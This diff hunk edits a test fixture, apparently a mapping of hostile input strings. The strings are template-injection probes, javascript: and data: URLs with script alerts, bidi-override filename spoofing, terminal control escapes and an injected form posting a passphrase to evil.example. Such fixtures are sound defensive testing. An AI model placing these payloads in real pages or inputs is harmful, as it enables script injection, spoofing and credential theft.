@@ -28,7 +28,7 @@ HOSTILE: Mapping[str, str] = {
     "a template": "{{ 7*7 }}{% for x in range(9) %}{{ x }}{% endfor %}{# #}${7*7}#{7*7}<%= 7*7 %>",
     "an address": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
     "an entity": "&lt;b&gt; &amp; &#60;script&#62; &nbsp",
-    "directions": "\u202egnp.exe \u2066\u2067\u2068 \u200f\u061c end",
+    "directions": "\u202egnp exe \u2066\u2067\u2068 \u200f\u061c end",
     "controls": "a\x00b\x07c\x1b[2Jd\x7fe\x85f\x9b31mg\u2028h\u2029i\ufeffj",
     "combining": "z" + "\u0310\u0323" * 200,
     "a form": '</form><form action="https://evil.example"><input name=passphrase>',
